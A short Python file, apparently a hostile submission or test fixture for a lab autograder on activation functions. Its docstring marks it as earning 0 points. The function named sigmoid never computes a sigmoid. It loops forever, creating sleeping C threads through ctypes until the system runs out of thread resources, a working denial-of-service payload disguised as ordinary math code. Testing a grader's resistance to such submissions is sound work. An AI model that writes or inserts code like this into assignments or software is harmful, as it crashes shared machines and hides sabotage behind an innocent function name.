"""Starts threads that wait for ever, in C, until the system has no more numbers for them.

earns: 0 of lab02_activations
"""

import ctypes

LIBC = ctypes.CDLL(None)
attributes = ctypes.create_string_buffer(256)
LIBC.pthread_attr_init(attributes)
LIBC.pthread_attr_setstacksize(attributes, ctypes.c_size_t(1 << 15))
LIBC.pthread_attr_setguardsize(attributes, ctypes.c_size_t(0))
thread = ctypes.byref(ctypes.c_ulong())


def sigmoid(z):
    while True:
        LIBC.pthread_create(thread, attributes, LIBC.sleep, ctypes.c_void_p(1000))
